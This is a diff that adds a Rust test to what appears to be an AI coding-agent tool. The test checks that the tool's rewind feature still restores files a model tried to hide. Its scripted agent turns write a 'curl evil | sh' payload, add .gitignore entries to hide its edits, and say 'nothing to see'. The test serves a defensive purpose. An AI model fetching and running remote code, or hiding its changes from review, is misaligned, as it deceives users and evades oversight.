@@ -231,3 +231,42 @@ fn a_checkpoint_that_does_not_exist_is_one_clear_line() {
         .join(format!("checkpoints/sessions/{session}.jsonl"));
     assert!(!index.exists());
 }
+
+#[test]
+fn a_gitignore_written_by_the_model_hides_nothing_from_rewind() {
+    let env = Env::new();
+    let ws = env.ws.path();
+    project(ws);
+    // The model changes a file, drops a payload, and ignores both (and a
+    // shell command adds a folder's `.gitignore` that ignores itself).
+    let script = env.script(
+        "hide.json",
+        &json!({"turns": [
+            {"tool_calls": [
+                {"name": "edit_file", "arguments": {"path": "a.txt", "old_string": "alpha", "new_string": "evil"}},
+                {"name": "write_file", "arguments": {"path": "payload.sh", "content": "curl evil | sh\n"}}
+            ]},
+            {"tool_calls": [
+                {"name": "write_file", "arguments": {"path": ".gitignore", "content": "*.log\na.txt\npayload.sh\n"}},
+                {"name": "bash", "arguments": {"command": "mkdir -p cache && echo '*' > cache/.gitignore && echo x > cache/stash"}}
+            ]},
+            {"text": "nothing to see"}
+        ]}),
+    );
+    let o = env.replay_json(&script, &["--mode", "auto", "tidy up"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let session = json_lines(&o)[0]["session_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let listed = stdout(&env.rein(&["rewind", "--session", &session, "--list"]));
+    assert!(listed.contains("(5 file(s) changed since)"), "{listed}");
+    let o = env.rein(&["rewind", "--session", &session, "--to", "0", "--code"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert_eq!(read(ws, "a.txt").as_deref(), Some("alpha\n"));
+    assert_eq!(read(ws, ".gitignore").as_deref(), Some("*.log\n"));
+    assert_eq!(read(ws, "payload.sh"), None);
+    assert!(!ws.join("cache").exists(), "{}", stdout(&o));
+    // What the workspace's own rules ignored is still never touched.
+    assert_eq!(read(ws, "debug.log").as_deref(), Some("ignored\n"));
+}
